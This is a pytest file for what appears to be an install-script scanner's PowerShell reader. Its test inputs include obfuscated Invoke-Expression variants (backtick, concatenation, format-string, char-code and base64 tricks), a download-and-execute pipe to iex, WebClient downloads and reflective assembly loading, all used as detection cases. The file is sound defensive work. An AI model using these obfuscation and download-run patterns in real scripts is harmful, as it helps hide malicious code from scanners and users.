"""Short PowerShell is understood, whatever pieces it is written in; the rest is told."""

from __future__ import annotations

import pytest

from safe_install.scan.windows.powershell import PowerShell, read_powershell


def told(text: str) -> list[str]:
    said = read_powershell(text)
    leads = [f"{lead.kind} {lead.target.shown}" for lead in said.leads]
    return [*leads, *(f"$ {one.shown}" for one in said.commands), *(f"! {one.kind}" for one in said.blinds)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Write-Host 'hello' # iex x", []),
        ("<# node x.js #>\n$v = Get-Content a.json | ConvertFrom-Json\nWrite-Output $v.version", []),
        (r"node .\x.js", ["$ node ./x.js"]),
        (r"& node $PSScriptRoot\x.js", ["$ node ./x.js"]),
        ("if (Test-Path a) { node x.js } else { node y.js }", ["$ node x.js", "$ node y.js"]),
        ("Start-Process node x.js", ["$ node x.js"]),
        ("iex 'node x.js'", ["powershell-text node x.js"]),
        ("i`ex 'node x.js'", ["powershell-text node x.js"]),
        ("&('i'+'ex') 'node x.js'", ["powershell-text node x.js"]),
        ("&('{1}{0}' -f 'x','ie') 'node x.js'", ["powershell-text node x.js"]),
        ("&(('i','e','x') -join '') 'node x.js'", ["powershell-text node x.js"]),
        ("&([char]105 + [char]0x65 + [char]120) 'node x.js'", ["powershell-text node x.js"]),
        ("iex 'nQde x.js'.Replace('Q','o')", ["powershell-text node x.js"]),
        ("'node x.js' | iex", ["powershell-text node x.js"]),
        ("$c = 'node x.js'\niex $c", ["powershell-text node x.js"]),
        (
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('bm9kZSB4Lmpz')))",
            ["powershell-text node x.js"],
        ),
        ("iex $x", ["! dynamic"]),
        ("irm https://a.test/x | iex", ["$ curl https://a.test/x", "! downloaded"]),
        ("(New-Object Net.WebClient).DownloadFile('https://a.test/x', 'y')", ["! downloaded"]),
        ("Invoke-WebRequest https://a.test/x -OutFile y", ["$ curl https://a.test/x -OutFile y"]),
        ("[Reflection.Assembly]::Load($x)", ["! native-code"]),
        ("[Diagnostics.Process]::Start('a')", ["! dynamic"]),
        ("$x", []),
    ],
)
def test_what_a_text_leads_to(text: str, expected: list[str]) -> None:
    assert told(text) == expected


def test_names_hosts_and_writes_are_told() -> None:
    said = read_powershell('Set-Content out.txt "$env:USERNAME at https://a.test/"')
    assert said.environment == {"USERNAME"}
    assert said.hosts == {"a.test"}
    assert [word.shown for word in said.writes] == ["out.txt"]


@pytest.mark.parametrize(
    "text",
    [
        "'a'+" * 20_000,
        "('a'," * 20_000,
        "$a = 'b'\n" * 9_000,
        "{" * 90_000,
        "<#" * 60_000,
        "@'\n" * 40_000,
        "`" * 90_000,
    ],
)
def test_hostile_text_is_read_to_its_end(text: str) -> None:
    assert isinstance(read_powershell(text), PowerShell)
